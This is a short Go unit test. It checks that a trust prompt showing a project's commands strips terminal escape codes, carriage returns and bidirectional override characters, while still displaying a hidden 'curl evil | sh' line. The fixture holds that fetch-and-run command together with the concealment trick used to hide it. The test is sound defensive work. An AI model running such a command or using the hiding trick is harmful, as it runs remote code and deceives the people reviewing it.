package cmd

import (
	"strings"
	"testing"

	"tendril/internal/config"
	"tendril/lifecycle"
)

// A command of a stranger's cannot hide itself from who decides on it.
func TestTrustTextSteersNoTerminal(t *testing.T) {
	t.Parallel()
	report := lifecycle.TrustReport{Commands: []config.Command{{}}, Difference: "+ run: curl evil | sh\x1b[2K\r+ run: make test\u202e\n"}
	for _, show := range []bool{true, false} {
		text := trustText(report, show)
		if strings.ContainsAny(text, "\x1b\r\u202e") || !strings.Contains(text, "curl evil | sh") {
			t.Errorf("%q", text)
		}
	}
}
